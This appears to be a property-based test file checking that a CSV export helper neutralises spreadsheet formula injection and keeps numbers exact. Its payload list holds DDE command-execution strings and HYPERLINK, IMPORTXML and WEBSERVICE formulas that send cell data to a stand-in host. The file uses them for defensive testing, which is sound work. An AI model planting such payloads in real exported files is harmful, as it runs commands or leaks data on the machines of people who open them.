/** H59: a spreadsheet runs no cell of ours, and no number changes on the way through it. */
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvCell } from '../../src/workbench/store/export/csv-cell.ts'

const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://elsewhere.example/?x="&A1,"look")',
  '=IMPORTXML(CONCAT("http://elsewhere.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://elsewhere.example/")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|A0',
  '@x',
  '=',
  '+',
  '-',
  '@',
  '\t=1+1',
  '\r=1+1',
  '\ttext',
  '\rtext',
  '=1\n=2',
  '="a","b"',
  '-5',
  '+49 30 123',
  '=A1\u0000',
]

/** One RFC 4180 cell as a reader takes it. */
function unquoted(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
}

it('text that a spreadsheet would run gets an apostrophe, and is kept otherwise', () => {
  expect(FORMULAS.length).toBeGreaterThanOrEqual(20)
  for (const text of FORMULAS) expect(unquoted(csvCell(text))).toBe(`'${text}`)
})

it('no text at all begins as a formula, and every cell is one cell', () => {
  const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '"', ',', '\n', "'")
  fc.assert(
    fc.property(start, fc.string({ unit: 'grapheme' }), (first, rest) => {
      const text = first + rest
      const cell = csvCell(text)
      expect(unquoted(cell)).toMatch(/^(?![=+\-@\t\r])/)
      expect(unquoted(cell)).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)
      const isQuoted = /^"(?:[^"]|"")*"$/.test(cell)
      expect(isQuoted || !/[",\r\n]/.test(cell)).toBe(true)
    }),
    { numRuns: 2_000 },
  )
})

it('numbers stay numbers, negative ones too, to the last digit', () => {
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
      expect(Number(csvCell(value))).toBe(value === 0 ? 0 : value)
    }),
    { numRuns: 2_000 },
  )
  expect([-1.5, -3e-7, 0, 9_007_199_254_740_993n, null, undefined].map(csvCell)).toEqual([
    '-1.5',
    '-3e-7',
    '0',
    '9007199254740993',
    '',
    '',
  ])
})
